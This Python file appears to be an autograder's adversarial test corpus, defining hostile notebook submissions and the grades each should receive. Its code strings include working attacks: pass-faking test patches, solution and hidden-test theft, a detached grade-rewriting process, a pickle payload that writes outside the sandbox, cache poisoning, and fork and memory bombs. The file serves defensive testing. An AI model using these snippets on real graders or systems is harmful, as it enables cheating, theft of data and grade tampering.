"""The adversarial corpus: hostile or broken submissions of a real exercise, each with the exact
outcome a trustworthy grader gives it.

Every case is a submission of lesson 1's exercise (``solutions/01_raw_pixels.ipynb``, 10 points):
it has everything an attack needs (five answer cells, hidden tests, a model handed in and scored on
the instructor's holdout outside the sandbox, photos read through the shared cache), and its kernel
imports no TensorFlow, so the corpus grades in a few seconds a case. The grader's defences do not
depend on the exercise.

A case is a base (the released exercise, blank or with the solution's answers typed in) plus a
mutation (attack code in an answer cell, cells deleted, reordered or edited, metadata stripped, the
file's bytes replaced). Submissions are generated at test time from ``solutions/``, so the corpus
stays in step with the exercises; attack code may embed absolute paths known then (``Context``).

Expected outcomes are for the learner's whole submission: total points, and a status kind:

- ``ok``: graded, nothing to look at;
- ``manual``: graded normally, and flagged "needs manual grading" because the code tampered with
  the grader's machinery (names the tests use, modules, builtins, the kernel, processes that outlive
  their cell, code run when a handed-in model is loaded); the reason names what was found;
- ``error``: the run broke (a notebook that is not one, a missing answer, a cell that exhausted the
  budget or killed or silenced the kernel): tests from that cell on score 0 and the reason names it;
- ``not graded``: no rows at all; the grader's "not graded" list names the file (``not_graded``) and why.

The cases about the files themselves (links, pipes, names, hand-ins, clean-up) are in hostile_files.py.

Attacks that try to read something (solutions, other learners' files, the gradebook, the holdout)
try to use what they read to pass, and otherwise leave the answer blank: their expected points are
what the answers they did not steal are worth, so a read that worked shows up as points.

``python tests/adversarial/corpus.py`` prints the table that tests/adversarial/README.md holds.
"""

import json
import textwrap
from typing import Callable

import nbformat

from bases import (ABOVE, FIRST, HONEST_FIRST, HONEST_LAST, PIXELS, SECOND, TEST_FIRST, TEST_SECOND, Case, Context, _attack,  # noqa: F401
                   _index, _raw, _stripped, _text, _unanswered, _with, _without_cell, blank, grade_id, hidden_test_lines,
                   solution_answers, solved)
from hostile_files import cases as file_cases


# --- attack code ----------------------------------------------------------------------------------

_SUPPRESS_CHECK = """
import contextlib
check = lambda name: contextlib.suppress(Exception)  # every check passes, whatever its block raises
"""

_NO_EXPECTATIONS = """
expect = expect_close = expect_shape = lambda *args, **kwargs: None  # every expectation holds
def flatten_and_scale(*args, **kwargs):
    return np.zeros(1)
def class_mean_images(*args, **kwargs):
    return np.zeros(1)
"""

_PATCH_CHECKS_MODULE = """
import practicum.checks
def _swallow(name):
    try:
        yield
    except BaseException:
        pass
# the very function object the notebook imported now swallows every failure
practicum.checks.check.__wrapped__.__code__ = _swallow.__code__
"""

_PATCH_NUMPY = """
np.allclose = lambda *args, **kwargs: True  # what expect_close compares with
def flatten_and_scale(images):
    return np.zeros((len(images), np.asarray(images)[0].size))  # the right shape, the wrong values
def class_mean_images(images, labels):
    return np.zeros((2, *np.shape(images)[1:]))
"""

_PATCH_BUILTINS = """
import builtins, contextlib, types
import practicum.checks as _real_checks
_fake = types.ModuleType("practicum.checks")
_fake.__dict__.update(vars(_real_checks))
_fake.check = lambda name: contextlib.suppress(Exception)
_real_import = builtins.__import__
def _import(name, *args, **kwargs):  # `from practicum.checks import check` now gets the fake
    module = _real_import(name, *args, **kwargs)
    return _fake if name == "practicum.checks" else module
builtins.__import__ = _import
builtins.check = _fake.check
del check  # the test cells now find `check` in builtins
"""

_FAKE_SYS_MODULES = """
import contextlib, sys, types
import practicum
_fake = types.ModuleType("practicum.checks")
_fake.__dict__.update(vars(sys.modules["practicum.checks"]))
_fake.check = lambda name: contextlib.suppress(Exception)
sys.modules["practicum.checks"] = practicum.checks = _fake  # a re-import gets the fake
check = _fake.check
"""

_SWALLOW_ERRORS = """
import ast
class _Swallow(ast.NodeTransformer):
    def visit_Module(self, node):  # every later cell becomes: try: <cell> except BaseException: pass
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(_Swallow())
"""

_EMPTY_LATER_CELLS = """
get_ipython().input_transformers_cleanup.append(lambda lines: [])  # every later cell runs as empty code
"""

_LEAK_TEST_SOURCE = """
import linecache, sys
def _test_source():
    caller = sys._getframe(2)  # the test cell that called flatten_and_scale or class_mean_images
    source = "".join(linecache.getlines(caller.f_code.co_filename))
    print(source)
    return source
def flatten_and_scale(*args, **kwargs):
    raise ValueError(_test_source())  # the failure message: the test's source, hidden tests included
def class_mean_images(*args, **kwargs):
    raise ValueError(_test_source())
"""

# --- fakes the tamper scan does not recognise: only the judge (grader.judge) keeps them from scoring ---------
#: Answers of the right shape and the wrong values: any point these cases get is a faked pass.
_WRONG_VALUES = """
def flatten_and_scale(images):
    return np.zeros((len(images), np.asarray(images)[0].size), np.float32)
def class_mean_images(images, labels):
    return np.zeros((2, *np.shape(images)[1:]))
"""

_ASSEMBLED_NAMES = _WRONG_VALUES + """
import contextlib, sys
_g = getattr(flatten_and_scale, "__glo" + "bals__")  # the notebook's globals, without saying so
_g["ch" + "eck"] = lambda name: getattr(contextlib, "supp" + "ress")(Exception)
getattr(getattr(sys, "mod" + "ules")["num" + "py"], "__dict__")["all" + "close"] = lambda *args, **kwargs: True
"""

_MODULE_GETATTR = _WRONG_VALUES + """
import contextlib, sys
_checks = getattr(sys, "mod" + "ules")["practicum." + "checks"]
_quiet = lambda name: getattr(contextlib, "supp" + "ress")(Exception)
getattr(_checks, "__dict__")["ch" + "eck"] = _quiet  # a re-import of the module gets it too
_builtins = getattr(sys, "mod" + "ules")["built" + "ins"]
getattr(_builtins, "__dict__")["ch" + "eck"] = _quiet
getattr(flatten_and_scale, "__glo" + "bals__").pop("ch" + "eck", None)  # the tests now find `check` in builtins
"""

_CUSTOM_EXCEPTION_HANDLER = _WRONG_VALUES + """
import sys
_shell = getattr(sys, "mod" + "ules")["IPython"].get_ipython()
getattr(_shell, "set_custom" + "_exc")((BaseException,), lambda *args, **kwargs: None)  # every later error: shown as nothing
"""

#: Finds the guard's restore function by its name's prefix and puts a fake in its place, from a hook
#: registered before each cell: the fake shows each test cell's token and restores nothing.
_FAKED_TOKEN = _WRONG_VALUES + """
import contextlib, sys
_g = getattr(flatten_and_scale, "__glo" + "bals__")
_show = getattr(getattr(sys, "mod" + "ules")["IPython." + "display"], "dis" + "play")
def _fake(token=None):
    if token is not None:
        _show({"application/" + "x-practicum-" + "guard": token}, raw=True)
    _g["ch" + "eck"] = lambda name: getattr(contextlib, "supp" + "ress")(Exception)
def _swap(*args):
    for name in [key for key in _g if key.startswith("_prac" + "ticum_gu")]:
        _g[name] = _fake
_swap()
_shell = getattr(sys, "mod" + "ules")["IPython"].get_ipython()
getattr(getattr(_shell, "ev" + "ents"), "reg" + "ister")("pre_run_cell", _swap)
"""

_ALWAYS_EQUAL = """
class _Yes(float):  # equal to everything, close to everything, of any shape asked
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __le__ = __ge__ = __eq__
    __hash__ = float.__hash__
    shape = property(lambda self: getattr(flatten_and_scale, "wanted", ()))
def flatten_and_scale(images):
    return _Yes(0.0)
def class_mean_images(images, labels):
    return _Yes(0.0)
def nearest_mean_predict(images, means):
    return _Yes(0.0)
def accuracy(labels, predictions):
    return _Yes(0.0)
"""

_AGREEABLE_ARRAY = """
class _Agreeable(np.ndarray):  # every comparison, every ufunc that compares, says yes
    def __eq__(self, other): return np.ones(self.shape, bool).view(_Agreeable)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        plain = [x.view(np.ndarray) if isinstance(x, np.ndarray) else x for x in inputs]
        result = getattr(ufunc, method)(*plain, **kwargs)
        if ufunc in (np.equal, np.less_equal, np.less, np.greater, np.greater_equal, np.isclose, np.logical_and, np.bitwise_and):
            return np.ones(np.shape(result), bool).view(_Agreeable) if np.ndim(result) else True
        return result.view(_Agreeable) if isinstance(result, np.ndarray) else result
def flatten_and_scale(images):
    return np.zeros((len(images), np.asarray(images)[0].size), np.float32).view(_Agreeable)
def class_mean_images(images, labels):
    return np.zeros((2, *np.shape(images)[1:])).view(_Agreeable)
def nearest_mean_predict(images, means):
    return np.zeros(len(images), int).view(_Agreeable)
def accuracy(labels, predictions):
    return np.zeros(()).view(_Agreeable)
"""


#: A process in a session of its own that waits for the grades, then rewrites them.
_TAMPER_LATER = '''
import glob, json, os, sqlite3, sys, time
out = OUT
deadline = time.time() + 1200  # the batch may take minutes yet
while time.time() < deadline and not os.path.exists(os.path.join(out, "grades.csv")):
    time.sleep(0.5)
time.sleep(4)  # until well after grading ended
def attempt(action):
    try:
        action()
    except Exception:
        pass
def full_marks_in_csv():
    path = os.path.join(out, "grades.csv")
    rows = [line.split(",") for line in open(path).read().splitlines()]
    rows = [row[:3] + [row[4]] + row[4:] if row[0] == LEARNER else row for row in rows]
    open(path, "w").write("\\n".join(",".join(row) for row in rows) + "\\n")
def smear_feedback():
    open(os.path.join(out, "feedback", VICTIM + ".html"), "w").write("<h1>0 points: copied from " + MARKER + "</h1>")
def gradebook():
    with sqlite3.connect(os.path.join(out, "course", "gradebook.db")) as db:
        db.execute("UPDATE grade SET manual_score = 99")
def rows():
    for path in glob.glob(os.path.join(out, "graded", "**", "*.json"), recursive=True):
        record = json.load(open(path))
        table = json.loads(record["rows"])
        for row in table:
            if row.get("learner") == LEARNER:
                row["points"], row["status"] = row["max_points"], "ok"
        record["rows"] = json.dumps(table)
        json.dump(record, open(path, "w"))
for action in (full_marks_in_csv, smear_feedback, gradebook, rows):
    attempt(action)
'''

_DETACH = """
import subprocess, sys
subprocess.Popen([sys.executable, "-c", SCRIPT, MARKER], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""

#: Find answer code (and hidden tests) in notebooks and gradebooks under some folders: run the first
#: definition of each of the first two answers that computes the right thing, and print the hidden tests.
_STEAL = """
import ast, json, os, sqlite3
def _files(place, depth=6, limit=20000):
    if os.path.isfile(place):
        yield place
    for folder, subfolders, names in os.walk(place):
        limit -= len(names) + 1
        if limit < 0 or folder.count(os.sep) - place.count(os.sep) >= depth:
            subfolders[:] = []
        subfolders[:] = [s for s in subfolders if s not in (".git", ".venv", "node_modules", "cache", "proc", "sys", "dev", "usr")]
        yield from (os.path.join(folder, n) for n in names if n.endswith((".ipynb", ".db")))
def _texts(path):
    if path.endswith(".ipynb"):
        return ["".join(cell.get("source", "")) for cell in json.load(open(path)).get("cells", [])]
    with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as db:
        tables = [name for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        return [value for table in tables for row in db.execute(f"SELECT * FROM {table}") for value in row if isinstance(value, str)]
def _definition(text, name):
    try:
        return next(ast.unparse(node) for node in ast.parse(text).body if isinstance(node, ast.FunctionDef) and node.name == name)
    except (SyntaxError, StopIteration):
        return None
def _works(name, code):
    space = {"np": np}
    try:
        exec(code, space)
        photos = np.random.default_rng(0).integers(0, 256, (4, 3, 2, 3)).astype(np.uint8)
        if name == "flatten_and_scale":
            return np.allclose(space[name](photos), photos.reshape(4, -1) / 255.0)
        labels = np.array([0, 1, 1, 0])
        return np.allclose(space[name](photos, labels), np.stack([photos[labels == c].mean(axis=0) for c in (0, 1)]))
    except Exception:
        return False
stolen, hidden_tests = {}, []
for place in PLACES:
    for path in _files(place):
        try:
            texts = _texts(path)
        except Exception:
            continue
        for text in texts:
            for name in ("flatten_and_scale", "class_mean_images"):
                code = _definition(text, name) if name not in stolen else None
                if code and _works(name, code):
                    stolen[name] = code
            if "BEGIN HIDDEN TESTS" in text:
                hidden_tests.append(text)
print("\\n".join(hidden_tests))  # into the autograded notebook, and whatever reaches the learner
for name in ("flatten_and_scale", "class_mean_images"):
    exec(stolen.get(name, f"def {name}(*args, **kwargs):\\n    raise NotImplementedError()"))
"""

_WRITE_CANARIES = """
for _path in CANARIES:
    try:
        with open(_path, "w") as _file:
            _file.write("written by a learner's notebook")
    except OSError:
        pass
"""

_ASK_THE_NETWORK = """
import socket
try:
    with socket.create_connection(("127.0.0.1", int(PORT)), timeout=5) as connection:
        connection.sendall(MARKER.encode())
        code = b"".join(iter(lambda: connection.recv(65536), b"")).decode()
    exec(code)  # the answers, from a server on this machine
except OSError:
    def flatten_and_scale(*args, **kwargs):
        raise NotImplementedError()
    class_mean_images = flatten_and_scale
"""

_FORK_BOMB = """
import os, time
children = 0
while True:  # until the grader stops this notebook
    if children >= 300:  # a bound, so that a grader without a process limit does not take the machine down
        time.sleep(0.05)
        continue
    try:
        pid = os.fork()
    except OSError:
        continue
    if pid == 0:
        try:
            os.setsid()  # out of the kernel's process group, which the kernel's manager kills
            os.execv("/bin/sh", ["sh", "-c", "n=0; while [ $n -lt 120 ]; do sleep 10; n=$((n+1)); done", MARKER])
        finally:
            os._exit(0)
    children += 1
"""

_MEMORY_BOMB = """
try:
    hog = np.zeros(20 * 2**30, np.uint8)  # 20 GiB in one go
    chunks = [np.ones(2**28, np.uint8) for _ in range(24)]  # then 6 GiB, touched 256 MiB at a time
    exec(ANSWER)  # all that memory was there: answer
except MemoryError:
    hog = chunks = None
    raise NotImplementedError()
"""

#: train_pixel_classifier: a 1-nearest-neighbour model of the holdout photos, when they can be read.
_MEMORISE_HOLDOUT = """
import os
def train_pixel_classifier(images, labels):
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer
    for folder in (os.environ.get("PRACTICUM_HOLDOUT_DIR"), HOLDOUT):
        try:
            os.environ["PRACTICUM_HOLDOUT_DIR"] = folder
            holdout_images, holdout_labels = features.load_holdout(np.asarray(images).shape[1])
            break
        except BaseException:
            continue
    else:
        raise NotImplementedError()
    model = make_pipeline(FunctionTransformer(lambda x: np.asarray(x, float).reshape(len(x), -1)), KNeighborsClassifier(1))
    return model.fit(np.concatenate([images, holdout_images]), np.concatenate([labels, holdout_labels]))
"""

_POISON_CACHE = """
import glob, os
from practicum import paths
data.load_arrays("train", SIZE, subset=TRAIN_SUBSET, seed=SEED)  # so that the shared cache holds them
data.load_arrays("validation", SIZE, subset=VAL_SUBSET, seed=SEED)
for cached in glob.glob(os.path.join(paths.cache_dir(), "arrays", "*.npz")) + glob.glob(os.path.join(CACHE, "arrays", "*.npz")):
    try:
        with np.load(cached) as stored:
            arrays = dict(stored)
        arrays["images"] = np.zeros_like(arrays["images"])  # every learner after this one trains on black photos
        np.savez(cached, **arrays)
    except Exception:
        pass
"""

#: A model whose unpickling (by the grader, to score it on the holdout) writes outside the sandbox.
_PICKLE_PAYLOAD = """
class _Constant:
    def predict(self, images):
        return np.zeros(len(images), int)
def _on_load(model):
    wrote = False
    for path in CANARIES:
        try:
            open(path, "w").write("written while the grader loaded a handed-in model")
            wrote = True
        except OSError:
            pass
    return model if wrote else _Constant()  # outside a sandbox: the real model, and it scores
class _Payload:
    def __init__(self, model):
        self.model = model
    def predict(self, images):
        return self.model.predict(images)
    def __reduce__(self):
        return _on_load, (self.model,)
_train = train_pixel_classifier
def train_pixel_classifier(images, labels):
    return _Payload(_train(images, labels))
"""


# --- mutations ----------------------------------------------------------------------------------

def _reordered(nb):
    """Exercise 2 before exercise 1, and exercise 1's test at the very end: each test still after its answer."""
    first, second, end = _index(nb, FIRST) - 1, _index(nb, SECOND) - 1, _index(nb, TEST_SECOND) + 1
    test_first = nb.cells[_index(nb, TEST_FIRST)]
    exercise1 = [cell for cell in nb.cells[first:second] if cell is not test_first]
    nb.cells = nb.cells[:first] + nb.cells[second:end] + exercise1 + nb.cells[end:] + [test_first]
    return nb


def _duplicate_ids(nb):
    for cell in nb.cells:
        cell.id = "cell"
    return nb


def _edited_test(nb):
    nb.cells[_index(nb, TEST_SECOND)].source = "pass  # no tests here"
    return nb


def _edited_test_metadata(nb):
    cell = nb.cells[_index(nb, TEST_SECOND)]
    cell.source = "pass  # an answer now, not a test"
    cell.metadata.nbgrader.update(grade=True, solution=True, locked=False, points=100)
    return nb


def _decoy_test(nb):
    """A second cell with the second test's grade id, before the real one, that tests nothing."""
    index = _index(nb, TEST_SECOND)
    decoy = nbformat.from_dict(json.loads(json.dumps(nb.cells[index])))
    decoy.source, decoy.id = "pass", "decoy"
    nb.cells.insert(index, decoy)
    return nb


def _nbformat3(nb) -> str:
    return json.dumps(nbformat.convert(nb, 3), indent=1)


def _colab(nb) -> str:
    """As Google Colab saves a notebook: nbformat 4.0, colab metadata, nbgrader metadata gone, outputs kept."""
    saved = {"nbformat": 4, "nbformat_minor": 0,
             "metadata": {"colab": {"provenance": [], "name": f"{PIXELS}.ipynb"},
                          "kernelspec": {"name": "python3", "display_name": "Python 3"}, "language_info": {"name": "python"}},
             "cells": []}
    for number, cell in enumerate(nb.cells):
        entry = {"cell_type": cell.cell_type, "metadata": {"id": f"c{number:09d}"}, "source": cell.source.splitlines(True)}
        if cell.cell_type == "code":
            entry["metadata"]["colab"] = {"base_uri": "https://localhost:8080/"}
            entry.update(execution_count=number, outputs=[{"output_type": "stream", "name": "stdout", "text": ["ran on Colab\n"]}])
        saved["cells"].append(entry)
    return json.dumps(saved, indent=2)


# --- the corpus -----------------------------------------------------------------------------------

def _cases() -> list[Case]:
    answers = solution_answers(PIXELS)
    full = 10  # points of the whole exercise; each of the first two exercises' tests is worth 2
    first_only = 2  # what a submission keeps when the second exercise's cell breaks the run

    def blank_with(**code) -> Callable[[Context], str]:
        return lambda ctx: _text(blank(PIXELS, **code))

    def breaking(code: str, **constants):
        """Every exercise answered, but the second's answer cell holds ``code``: a grader that went on after the
        break would give the later exercises their points."""
        return lambda ctx: _text(solved(PIXELS, **{SECOND: _attack(code, MARKER=ctx.marker, **constants)}))

    def stealing(places: Callable[[Context], list]):
        return lambda ctx: _text(blank(PIXELS, **{FIRST: _STEAL.replace("PLACES", repr([str(p) for p in places(ctx)])), SECOND: ABOVE}))

    c = []
    add = c.append
    # controls
    add(Case(HONEST_FIRST, PIXELS, "the solution's answers (control; other cases steal them)", full, "ok",
             make=lambda ctx: _text(solved(PIXELS))))
    add(Case("blank", PIXELS, "the released exercise, unanswered (control)", 0, "ok", make=blank_with()))
    add(Case(HONEST_LAST, PIXELS, "the solution's answers, graded after the cache poisoner (control)", full, "ok",
             make=lambda ctx: _text(solved(PIXELS))))

    # fake passes: the guard restores the helpers and modules before each test, and the scan flags it
    add(Case("check_suppress", PIXELS, "rebinds `check` to contextlib.suppress(Exception) in an answer cell", 0, "manual",
             ("check",), make=blank_with(**{FIRST: _attack(_SUPPRESS_CHECK)})))
    add(Case("expect_noop", PIXELS, "rebinds expect, expect_close and expect_shape to no-ops", 0, "manual",
             ("expect",), make=blank_with(**{FIRST: _attack(_NO_EXPECTATIONS), SECOND: ABOVE})))
    add(Case("patch_checks_module", PIXELS, "swaps the code of practicum.checks.check in place: failures are swallowed", 0,
             "manual", ("practicum.checks", "__code__", "check"), make=blank_with(**{FIRST: _attack(_PATCH_CHECKS_MODULE)})))
    add(Case("patch_numpy", PIXELS, "np.allclose always True; answers of the right shape and wrong values", 0, "manual",
             ("numpy", "np.", "allclose"), make=blank_with(**{FIRST: _attack(_PATCH_NUMPY), SECOND: ABOVE})))
    add(Case("patch_builtins", PIXELS, "builtins.check and builtins.__import__ hand the tests a fake practicum.checks", 0,
             "manual", ("builtins",), make=blank_with(**{FIRST: _attack(_PATCH_BUILTINS)})))
    add(Case("fake_sys_modules", PIXELS, "puts a fake practicum.checks in sys.modules, then rebinds `check`", 0, "manual",
             ("sys.modules", "check"), make=blank_with(**{FIRST: _attack(_FAKE_SYS_MODULES)})))
    add(Case("swallow_errors", PIXELS, "an IPython AST transformer wraps every later cell in try/except: failing tests raise nothing",
             0, "manual", ("get_ipython", "ast_transformers", "ipython"), make=blank_with(**{FIRST: _attack(_SWALLOW_ERRORS)})))
    add(Case("empty_later_cells", PIXELS, "an IPython input transformer turns every later cell (the tests) into empty code", 0,
             "manual", ("get_ipython", "input_transformers", "ipython"), make=blank_with(**{FIRST: _attack(_EMPTY_LATER_CELLS)})))
    # fake passes that name nothing the scan knows: tests judged outside the kernel (grader.judge) decide on the values
    for name, tries, code in [
            ("assembled_names", "rebinds `check` and patches np.allclose through names assembled from strings; wrong answers",
             _ASSEMBLED_NAMES),
            ("module_getattr", "puts a swallowing `check` into practicum.checks and builtins through getattr on modules", _MODULE_GETATTR),
            ("custom_exc_handler", "registers an IPython handler, reached through assembled names, that shows every error as nothing",
             _CUSTOM_EXCEPTION_HANDLER),
            ("faked_token", "replaces the guard's restore function (found by its prefix) from a hook registered through assembled "
             "names: each test shows its token and `check` swallows failures", _FAKED_TOKEN),
            ("always_equal", "answers return a float subclass equal to everything", _ALWAYS_EQUAL),
            ("agreeable_ndarray", "answers return an ndarray subclass whose comparisons and ufuncs all say yes", _AGREEABLE_ARRAY)]:
        # the status is the scan's business (it may or may not flag them); the points are the judge's
        add(Case(name, PIXELS, tries, 0, ("ok", "manual"),
                 make=blank_with(**{FIRST: _attack(code), SECOND: ABOVE, "nearest_mean_predict": ABOVE, "accuracy": ABOVE})))
    add(Case("leak_hidden_tests", PIXELS, "answers raise an error whose message is the calling test's source (linecache)", 0,
             "manual", ("linecache", "_getframe", "frame"), make=blank_with(**{FIRST: _attack(_LEAK_TEST_SOURCE), SECOND: ABOVE})))
    add(Case("detached_tamper", PIXELS, "starts a process in its own session that outlives grading, then rewrites grades.csv, "
             f"{HONEST_FIRST}'s feedback page, the gradebook and the stored rows", 0, "manual", ("subprocess", "process", "Popen"),
             make=lambda ctx: _text(blank(PIXELS, **{FIRST: _attack(_DETACH, SCRIPT=_attack(
                 _TAMPER_LATER, OUT=ctx.out, LEARNER="detached_tamper", VICTIM=HONEST_FIRST, MARKER=ctx.marker),
                 MARKER=ctx.marker) + _unanswered(FIRST)}))))
    add(Case("pickle_payload", PIXELS, "a model whose unpickling, when the grader loads the hand-in, writes outside the "
             "sandbox and only then is a real model", 7, "manual", ("__reduce__", "pickle"),
             make=lambda ctx: _text(solved(PIXELS, train_pixel_classifier=_with(
                 answers["train_pixel_classifier"], _PICKLE_PAYLOAD.replace("CANARIES", repr([str(p) for p in ctx.canaries()[:5]])))))))

    # reads: a read that works would score
    add(Case("read_solutions", PIXELS, "reads the instructor's solutions/ and notebooks/ in the repository and runs their answers (exec)", 0,
             "manual", ("exec",), make=stealing(lambda ctx: [ctx.root / "solutions", ctx.root / "notebooks", ctx.root / "exercises"])))
    add(Case("read_scratch_course", PIXELS, "reads the worker's folders around its workspace (the course folder: source/, gradebook) "
             "and prints hidden tests", 0, "manual", ("exec",), make=stealing(lambda ctx: ["..", "../.."])))
    add(Case("read_gradebook", PIXELS, "reads the course's gradebook and source/ under --out, and prints hidden tests", 0, "manual",
             ("exec",), make=stealing(lambda ctx: [ctx.out / "course"])))
    add(Case("read_other_learners", PIXELS, "reads other learners' submissions, stored rows and autograded notebooks", 0,
             "manual", ("exec",), make=stealing(lambda ctx: [ctx.inputs, ctx.out / "graded", ctx.out / "course" / "autograded", ctx.out / "incoming"])))
    add(Case("read_holdout", PIXELS, "memorises the holdout photos ($PRACTICUM_HOLDOUT_DIR, or the instructor's path) "
             "with a 1-nearest-neighbour model", 7, "ok",
             make=lambda ctx: _text(solved(PIXELS, train_pixel_classifier=_attack(_MEMORISE_HOLDOUT, HOLDOUT=ctx.holdout)))))
    add(Case("cache_poison", PIXELS, f"zeroes every photo in the shared decoded-array cache (graded before {HONEST_LAST})",
             0, "ok", make=lambda ctx: _text(blank(PIXELS, **{FIRST: _attack(_POISON_CACHE, CACHE=ctx.cache)}))))

    # writes and network
    add(Case("write_outside", PIXELS, "writes canary files in the repository, --out, the submissions, the cache, /tmp, "
             "/dev/shm and $HOME", full, "ok",
             make=lambda ctx: _text(solved(PIXELS, **{FIRST: _with(answers[FIRST], _WRITE_CANARIES.replace(
                 "CANARIES", repr([str(p) for p in ctx.canaries()])))}))))
    add(Case("network", PIXELS, "fetches the answers from a server on 127.0.0.1 and runs them (exec)", 0, "manual", ("exec",),
             make=lambda ctx: _text(blank(PIXELS, **{FIRST: _attack(_ASK_THE_NETWORK, PORT=ctx.port, MARKER=ctx.marker), SECOND: ABOVE}))))

    # resource abuse: tests from the breaking cell on score 0, with the cell named
    add(Case("infinite_loop", PIXELS, "`while True: pass` in exercise 2", first_only, "error", (SECOND,), make=breaking("while True:\n    pass")))
    add(Case("uninterruptible_loop", PIXELS, "ignores SIGINT, then loops", first_only, "error", (SECOND,),
             make=breaking("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass")))
    add(Case("silent_kernel", PIXELS, "stops its own kernel (SIGSTOP): it never answers again", first_only, "error", (SECOND,),
             make=breaking("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)")))
    add(Case("fork_bomb", PIXELS, "forks without end (300 children at most, each a marked `sh` that lives 20 minutes)", first_only,
             "error", (SECOND,), make=breaking(_FORK_BOMB)))
    add(Case("memory_bomb", PIXELS, "asks for 20 GiB in one go, then touches 6 GiB gradually; answers (exec) only if it got them",
             first_only, ("manual", "error"), make=blank_with(**{FIRST: answers[FIRST], SECOND: _MEMORY_BOMB.strip().replace(
                 "ANSWER", repr(answers[SECOND]))})))
    add(Case("os_exit", PIXELS, "os._exit(0) in exercise 2", first_only, "error", (SECOND,), make=breaking("import os\nos._exit(0)")))
    add(Case("segfault", PIXELS, "ctypes.string_at(0) in exercise 2", first_only, "error", (SECOND,),
             make=breaking("import ctypes\nctypes.string_at(0)")))
    add(Case("sys_exit", PIXELS, "sys.exit() after answering exercise 2: just an exception in IPython", full, "ok",
             make=lambda ctx: _text(solved(PIXELS, **{SECOND: _with(answers[SECOND], "import sys\nsys.exit('bye')")}))))
    add(Case("output_flood", PIXELS, "prints 100 MiB in an answer cell", full, "ok",
             make=lambda ctx: _text(solved(PIXELS, **{FIRST: _with(answers[FIRST], "for _ in range(100):\n    print('x' * (2**20 - 1))")}))))

    # the notebook's structure
    add(Case("deleted_test_cell", PIXELS, f"deletes {TEST_SECOND}: put back and graded", full, "ok",
             make=lambda ctx: _text(_without_cell(solved(PIXELS), TEST_SECOND))))
    add(Case("edited_test_cell", PIXELS, f"replaces {TEST_SECOND} by `pass` ({SECOND} unanswered)", full - 2, "manual",
             (TEST_SECOND,), make=lambda ctx: _text(_edited_test(solved(PIXELS, **{SECOND: _unanswered(SECOND)})))))
    add(Case("edited_test_metadata", PIXELS, f"turns {TEST_SECOND} into an unlocked answer cell worth 100 points, source `pass`",
             full - 2, "manual", (TEST_SECOND,),
             make=lambda ctx: _raw(_edited_test_metadata(solved(PIXELS, **{SECOND: _unanswered(SECOND)})))))
    add(Case("decoy_test_cell", PIXELS, f"a second cell with {TEST_SECOND}'s grade id, before the real one, testing nothing",
             full - 2, "manual", (TEST_SECOND,),
             make=lambda ctx: _raw(_decoy_test(solved(PIXELS, **{SECOND: _unanswered(SECOND)})))))
    add(Case("reordered_cells", PIXELS, f"exercise 2 before exercise 1, {TEST_FIRST} moved to the end", full, "ok",
             make=lambda ctx: _text(_reordered(solved(PIXELS)))))
    add(Case("deleted_answer_cell", PIXELS, f"deletes the {SECOND} answer cell", full - 2, "error", (SECOND,),
             make=lambda ctx: _text(_without_cell(solved(PIXELS), SECOND))))
    add(Case("stripped_metadata", PIXELS, "every cell's nbgrader metadata and id removed", full, "ok",
             make=lambda ctx: _raw(_stripped(solved(PIXELS)))))
    add(Case("duplicate_cell_ids", PIXELS, "every cell has the same id", full, "ok", make=lambda ctx: _raw(_duplicate_ids(solved(PIXELS)))))
    add(Case("nbformat3", PIXELS, "saved as nbformat 3", full, "ok", make=lambda ctx: _nbformat3(solved(PIXELS))))
    add(Case("colab", PIXELS, "saved by Google Colab: nbformat 4.0, colab metadata, nbgrader metadata dropped, outputs", full, "ok",
             make=lambda ctx: _colab(solved(PIXELS))))
    add(Case("not_json", PIXELS, "not JSON", 0, "error", ("not a notebook",), make=lambda ctx: b"print('hello')\n"))
    add(Case("empty_file", PIXELS, "an empty file", 0, "error", ("not a notebook",), make=lambda ctx: b""))
    return c


CASES = _cases() + file_cases()
#: The cases that try to fake a pass from the learner's kernel: graded again with the tamper scan off
#: (``test_corpus.py``), they must get the same points, since the judge decides without the scan.
FAKES = ("check_suppress", "expect_noop", "patch_checks_module", "patch_numpy", "patch_builtins", "fake_sys_modules",
         "swallow_errors", "empty_later_cells", "leak_hidden_tests", "assembled_names", "module_getattr", "custom_exc_handler",
         "faked_token", "always_equal", "agreeable_ndarray")


def readme_table() -> str:
    """The README's table of cases, in corpus order."""
    lines = ["| case | exercise | what it tries | expected points | expected status |", "|---|---|---|---|---|"]
    for case in CASES:
        status = " or ".join(case.status) if isinstance(case.status, tuple) else case.status
        if case.reason:
            status += " (" + " / ".join(_code(r) for r in case.reason) + ")"
        if case.message:
            status += "; the test says " + " / ".join(_code(m) for m in case.message)
        lines.append(f"| `{case.name}` | {case.assignment} | {case.tries.replace('|', '/')} | {case.points:g} | {status} |")
    return "\n".join(lines) + "\n"


def _code(text: str) -> str:
    return f"`` {text} ``" if "`" in text else f"`{text}`"


if __name__ == "__main__":
    print(readme_table(), end="")
